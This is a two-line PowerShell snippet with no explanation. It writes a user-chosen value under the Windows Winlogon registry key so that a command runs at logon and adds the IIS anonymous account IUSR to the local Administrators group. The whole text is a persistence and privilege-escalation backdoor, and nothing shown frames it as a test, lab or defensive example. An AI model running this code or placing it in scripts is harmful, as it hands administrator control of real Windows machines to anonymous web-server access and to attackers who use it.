$name = Read-Host
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' -Name $name -Value 'cmd /c net localgroup Administrators IUSR /add'
